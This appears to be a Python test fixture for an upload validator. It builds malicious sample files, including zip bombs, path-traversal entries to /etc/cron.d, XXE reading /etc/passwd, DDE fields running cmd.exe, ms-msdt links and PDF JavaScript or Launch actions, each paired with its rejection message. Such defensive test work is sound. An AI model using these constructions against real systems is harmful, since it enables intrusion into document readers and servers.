"""Files that somebody could try to bring in, made by script; each with words of the sentence it is refused with.

The families are those of threats: wrong signature, double suffix, polyglots, macros, embedded objects, bombs,
overlapping and escaping parts, pixel floods, entities, links that run, scripts in PDF.
"""

import io
import struct
import zipfile
import zlib

from tests.assessments.papers import (
    OFFICE,
    chunk,
    docx,
    docx_parts,
    docx_with,
    jpeg_of,
    package,
    packed,
    pdf,
    picture,
    png_of,
    relations,
    stream,
    types,
    xlsx_parts,
    xlsx_with,
)

OTHER = "is not what its name says"
TYPE = "Files of this type are not accepted"
AS_WELL = "as well"
FOLLOWS = "Something follows"
DAMAGED = "damaged or incomplete"
MACROS = "contains macros"
EMBEDDED = "is embedded in the file"
NESTED = "another archive inside"
BOMB = "far too large"
TANGLED = "overlap or go by two names"
ESCAPES = "unpacked to another place"
LINKS = "a link to somewhere else"
LOADS = "loads something from another file or place"
CALLS = "calls another program"
ENTITIES = "defines entities"
PASSWORD = "protected by a password"
PIXELS = "which is too many"
SCRIPT = "contains a script"
ATTACHED = "attached inside the PDF"
PACKED = "packed in a way that cannot be checked"

HTML = b"<html><script>alert(1)</script></html>"
ZIP = package({"a.txt": "a"})
PNG, JPEG, PDF = picture("PNG"), picture("JPEG"), pdf()
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
BILLION = '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
OUTSIDE = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'


def docm(kind="vnd.ms-word.document.macroEnabled.main+xml"):
    return docx_with(
        {
            "[Content_Types].xml": types("word/document.xml", f"application/{kind}"),
            "word/vbaProject.bin": OLE,
        }
    )


def rewritten(data, name, **fields):
    """A package in which the list says this of a part."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(out, "w") as after:
        for info in before.infolist():
            content = before.read(info)
            if info.filename == name:
                for field, value in fields.items():
                    setattr(info, field, value)
            after.writestr(info, content)
    return out.getvalue()


def patched(data, signature, offset, value):
    """With these bytes put over every record of this signature in the package."""
    data, at = bytearray(data), 0
    while (at := data.find(signature, at)) >= 0:
        data[at + offset : at + offset + len(value)] = value
        at += 4
    return bytes(data)


def overlapping():
    """Two names of the list lead to the same bytes, as in a bomb of overlapping parts."""
    data = package(docx_parts() | {"word/a.xml": "<a/>", "word/b.xml": "<a/>"})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        first, second = (archive.getinfo(f"word/{name}.xml") for name in "ab")
    at = data.rindex(b"word/b.xml") - 46
    return data[: at + 42] + struct.pack("<I", first.header_offset) + data[at + 46 :] if second else data


def two_names():
    """The list and the part itself give different names."""
    data = docx_with({"word/vba.xml": "<a/>"})
    at = data.index(b"word/vba.xml")
    return data[:at] + b"word/abc.xml" + data[at + 12 :]


def bomb(size=300 * 2**20):
    """A member whose length is said to be huge; its bytes stay small, so that making it costs nothing."""
    data = docx_with({"word/media/a.png": bytes(2**20)})
    at = data.rindex(b"word/media/a.png") - 46
    return data[: at + 24] + struct.pack("<I", size) + data[at + 28 :]


def lying_bomb():
    """More comes out than the list says."""
    data = docx_with({"word/media/a.png": bytes(2**20)})
    at = data.rindex(b"word/media/a.png") - 46
    return data[: at + 24] + struct.pack("<I", 100) + data[at + 28 :]


def field(*codes):
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return docx_with({"word/document.xml": docx_parts(f"<w:p>{begin}{runs}{end}</w:p>")["word/document.xml"]})


def loading(kind, target):
    return docx_with({"word/_rels/document.xml.rels": relations((kind, target, True))})


def with_xml(text, part="word/styles.xml"):
    return docx_with({part: text})


def cyrillic(text):
    return text.encode("utf-16")


ACTION = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"

FILES = {
    # wrong signature
    "exe as pdf": ("报告.pdf", b"MZ" + bytes(200), OTHER),
    "html as pdf": ("报告.pdf", HTML, OTHER),
    "html as png": ("图.png", HTML, OTHER),
    "svg as png": ("图.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", OTHER),
    "gif as png": ("图.png", b"GIF89a" + struct.pack("<HH", 65535, 65535) + bytes(20), OTHER),
    "photoshop as jpeg": ("图.jpg", b"8BPS\0\1" + bytes(6) + struct.pack(">HII", 3, 300000, 300000), OTHER),
    "postscript as jpeg": ("图.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n", OTHER),
    "pdf as docx": ("文.docx", PDF, OTHER),
    "zip as docx": ("文.docx", ZIP, OTHER),
    "xlsx as docx": ("文.docx", package(xlsx_parts()), OTHER),
    "docx as xlsx": ("表.xlsx", docx(), OTHER),
    "template as docx": (
        "文.docx",
        docx_with(
            {
                "[Content_Types].xml": types(
                    "word/document.xml", f"{OFFICE}.wordprocessingml.template.main+xml"
                )
            }
        ),
        OTHER,
    ),
    "doc as docx": ("文.docx", OLE, "of the old format"),
    # suffixes
    "exe behind pdf": ("报告.pdf.exe", PDF, TYPE),
    "macro suffix": ("文.docm", docm(), TYPE),
    "svg": ("图.svg", b"<svg/>", TYPE),
    "html": ("页.html", HTML, TYPE),
    "suffix turned round": ("报告\u202efdp.exe", PDF, TYPE),
    "suffix after a null": ("报告.pdf\0.exe", PDF, TYPE),
    "suffix after a line": ("报告.pdf\r\n.hta", PDF, TYPE),
    "nothing but a suffix": (".pdf", PDF, TYPE),
    # polyglots
    "pdf after html": ("报告.pdf", HTML + PDF, OTHER),
    "html in the head of a pdf": ("报告.pdf", pdf(head=b"%PDF-1.7\n%" + HTML + b"\n"), AS_WELL),
    "zip behind a pdf": ("报告.pdf", PDF + ZIP, AS_WELL),
    "zip around a pdf": ("报告.pdf", pdf(stream(ZIP)), AS_WELL),
    "html behind a pdf": ("报告.pdf", PDF + bytes(2000) + HTML, FOLLOWS),
    "zip behind a png": ("图.png", PNG + ZIP, AS_WELL),
    "html behind a png": ("图.png", PNG + b"\n" + bytes(2000) + HTML, FOLLOWS),
    "html behind a jpeg": ("图.jpg", JPEG + HTML, FOLLOWS if len(JPEG) > 1024 else AS_WELL),
    "script far behind a jpeg": ("图.jpg", JPEG + bytes(2000) + HTML, FOLLOWS),
    "html in a jpeg's comment": ("图.jpg", picture("JPEG", comment=HTML), AS_WELL),
    "pdf behind a docx": ("文.docx", docx() + PDF, FOLLOWS),
    "exe before a docx": ("文.docx", b"MZ" + docx(), OTHER),
    "zip before a docx": ("文.docx", ZIP + docx(), TANGLED),
    # damaged
    "docx cut short": ("文.docx", docx()[:-40], DAMAGED),
    "docx with a changed byte": (
        "文.docx",
        patched(package(docx_parts(), method=0), b"\xe8\xb0\x83", 0, b"\xe8\xb0\x84"),
        DAMAGED,
    ),
    "png cut short": ("图.png", PNG[:-8], DAMAGED),
    "png with a changed byte": ("图.png", PNG[:20] + b"\x01" + PNG[21:], DAMAGED),
    "jpeg cut short": ("图.jpg", JPEG[:-2], DAMAGED),
    "jpeg of nothing": ("图.jpg", b"\xff\xd8\xff\xd9", DAMAGED),
    "pdf cut short": ("报告.pdf", PDF[:-20], DAMAGED),
    "pdf of nothing": ("报告.pdf", b"%PDF-1.7\n%%EOF\n", DAMAGED),
    # macros and embedded things
    "docm renamed": ("文.docx", docm(), MACROS),
    "macros under an innocent type": ("文.docx", docx_with({"word/vbaProject.bin": OLE}), MACROS),
    "xlsm renamed": (
        "表.xlsx",
        xlsx_with(
            {
                "[Content_Types].xml": types(
                    "xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
                )
            }
        ),
        MACROS,
    ),
    "macro sheet": ("表.xlsx", xlsx_with({"xl/macrosheets/sheet1.xml": "<a/>"}), MACROS),
    "macros by relation": (
        "文.docx",
        docx_with({"word/_rels/document.xml.rels": relations(("vbaProject", "other.bin", False))}),
        MACROS,
    ),
    "activex": ("文.docx", docx_with({"word/activeX/activeX1.xml": "<a/>"}), MACROS),
    "embedded object": ("文.docx", docx_with({"word/embeddings/oleObject1.bin": OLE}), EMBEDDED),
    "embedded program": ("文.docx", docx_with({"word/media/image1.png": b"MZ" + bytes(90)}), EMBEDDED),
    # bombs and archives
    "archive inside": ("文.docx", docx_with({"word/media/a.bin": ZIP}), NESTED),
    "rar inside": ("表.xlsx", xlsx_with({"xl/media/a.png": b"Rar!\x1a\x07\0" + bytes(9)}), NESTED),
    "two workbooks deep": (
        "文.docx",
        docx_with(
            {
                "word/embeddings/a.xlsx": xlsx_with({"xl/embeddings/b.xlsx": package(xlsx_parts())}),
            }
        ),
        NESTED,
    ),
    "macros in an inner workbook": (
        "文.docx",
        docx_with({"word/embeddings/a.xlsx": xlsx_with({"xl/vbaProject.bin": OLE})}),
        MACROS,
    ),
    "bomb by total": ("文.docx", bomb(), BOMB),
    "bomb by ratio": ("文.docx", docx_with({"word/media/a.png": bytes(20 * 2**20)}), BOMB),
    "bomb by number": ("文.docx", docx_with({f"word/{n}.xml": "<a/>" for n in range(2_001)}), BOMB),
    "bomb that lies": ("文.docx", lying_bomb(), DAMAGED),
    "overlapping parts": ("文.docx", overlapping(), TANGLED),
    "one part under two names": ("文.docx", two_names(), TANGLED),
    "twice the same part": (
        "文.docx",
        docx_with({"word/A.xml": "<a/>", "word/a.xml": "<a/>"}),
        TANGLED,
    ),
    "way out": ("文.docx", docx_with({"../../etc/cron.d/a": "a"}), ESCAPES),
    "way out by backslash": (
        "文.docx",
        docx_with({"..#..#a": "a"}).replace(b"..#..#a", b"..\\..\\a"),
        ESCAPES,
    ),
    "absolute way": ("文.docx", docx_with({"/etc/cron.d/a": "a"}), ESCAPES),
    "drive": ("文.docx", docx_with({"C:/Windows/a": "a"}), ESCAPES),
    "link as a part": (
        "文.docx",
        rewritten(docx(), "word/document.xml", external_attr=0o120777 << 16, create_system=3),
        LINKS,
    ),
    "password on a part": (
        "文.docx",
        patched(patched(docx(), b"PK\x01\x02", 8, b"\x01"), b"PK\x03\x04", 6, b"\x01"),
        PASSWORD,
    ),
    "unknown packing": (
        "文.docx",
        patched(patched(docx(), b"PK\x01\x02", 10, b"\x63"), b"PK\x03\x04", 8, b"\x63"),
        DAMAGED,
    ),
    # entities
    "billion laughs": ("文.docx", with_xml(BILLION), ENTITIES),
    "entity of a file": ("文.docx", with_xml(OUTSIDE, "word/document.xml"), ENTITIES),
    "entity in a list": ("文.docx", with_xml(BILLION, "word/_rels/document.xml.rels"), ENTITIES),
    "entity in a table": ("表.xlsx", xlsx_with({"xl/worksheets/sheet1.xml": BILLION}), ENTITIES),
    "entity in UTF-16": ("文.docx", with_xml(cyrillic(BILLION)), ENTITIES),
    "table in UTF-16": (
        "表.xlsx",
        xlsx_with({"xl/worksheets/sheet1.xml": cyrillic("<worksheet/>")}),
        "unusual encoding",
    ),
    # links and fields that run
    "template from afar": ("文.docx", loading("attachedTemplate", "http://example.org/a.dotm"), LOADS),
    "template from a share": ("文.docx", loading("attachedTemplate", "file://host/a.dotm"), LOADS),
    "object from afar": ("文.docx", loading("oleObject", "http://example.org/a.hta"), LOADS),
    "picture from afar": ("文.docx", loading("image", "http://example.org/a.png"), LOADS),
    "hyperlink that runs": ("文.docx", loading("hyperlink", "javascript:alert(1)"), LOADS),
    "hyperlink to a tool": ("文.docx", loading("hyperlink", "ms-msdt:/id PCWDiagnostic"), LOADS),
    "other workbook": (
        "表.xlsx",
        xlsx_with({"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
        LOADS,
    ),
    "dde field": ("文.docx", field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), CALLS),
    "dde field in pieces": ("文.docx", field(" D", "D", "E cmd"), CALLS),
    "dde field spelled": ("文.docx", field(" QUOTE 68 68 69 65 85 84 79"), CALLS),
    "dde simple field": (
        "文.docx",
        with_xml(
            docx_parts('<w:fldSimple w:instr=" DDE excel a"/>')["word/document.xml"], "word/header1.xml"
        ),
        CALLS,
    ),
    "dde formula": (
        "表.xlsx",
        xlsx_with({}, cells="<row><c><f>cmd|'/c calc'!A0</f></c></row>"),
        CALLS,
    ),
    "dde formula escaped": (
        "表.xlsx",
        xlsx_with({}, cells="<row><c><f><![CDATA[cmd|'/c calc'!A0]]></f></c><c><f>1</f></c></row>"),
        CALLS,
    ),
    # pixel floods
    "pixel flood png": ("图.png", png_of(60_000, 60_000), PIXELS),
    "pixel flood jpeg": ("图.jpg", jpeg_of(65_000, 65_000), PIXELS),
    "long thin png": ("图.png", png_of(2**31 - 1, 1), PIXELS),
    "png of no width": ("图.png", png_of(0, 10), DAMAGED),
    "png without a head": (
        "图.png",
        PNG[:8] + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b""),
        DAMAGED,
    ),
    # PDF
    "script on opening": ("报告.pdf", pdf(ACTION, catalog=b"/OpenAction 4 0 R"), SCRIPT),
    "script in escapes": ("报告.pdf", pdf(b"<</S/Java#53cript/J#53(a)>>"), SCRIPT),
    "script in an object stream": ("报告.pdf", pdf(packed(ACTION)), SCRIPT),
    "script behind a string": ("报告.pdf", pdf(b"<</A(\\)endobj stream)/S/JavaScript/JS(a)>>"), SCRIPT),
    "script inside a stream": ("报告.pdf", pdf(stream(b"9 0 obj" + ACTION + b"endobj")), SCRIPT),
    "script behind a comment": ("报告.pdf", pdf(b"%endobj\n" + ACTION), SCRIPT),
    "launch": ("报告.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>"), SCRIPT),
    "form that sends itself": ("报告.pdf", pdf(b"<</S/SubmitForm/F(http://example.org)>>"), SCRIPT),
    "xfa form": ("报告.pdf", pdf(catalog=b"/AcroForm<</XFA 4 0 R>>"), SCRIPT),
    "attached file": ("报告.pdf", pdf(stream(b"MZ", b"/Type/EmbeddedFile")), ATTACHED),
    "attached by the catalog": ("报告.pdf", pdf(catalog=b"/Names<</EmbeddedFiles 4 0 R>>"), ATTACHED),
    "protected pdf": ("报告.pdf", pdf(trailer=b"/Encrypt 4 0 R"), PASSWORD),
    "object stream in an odd filter": (
        "报告.pdf",
        pdf(stream(b"00>", b"/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode")),
        PACKED,
    ),
    "object stream with its filter elsewhere": (
        "报告.pdf",
        pdf(stream(zlib.compress(ACTION), b"/Type/ObjStm/N 1/First 4/Filter 9 0 R")),
        PACKED,
    ),
    "object stream bomb": (
        "报告.pdf",
        pdf(stream(zlib.compress(bytes(40 * 2**20)), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")),
        PACKED,
    ),
    "endless strings": ("报告.pdf", pdf(b" obj(" * 3_000), PACKED),
}
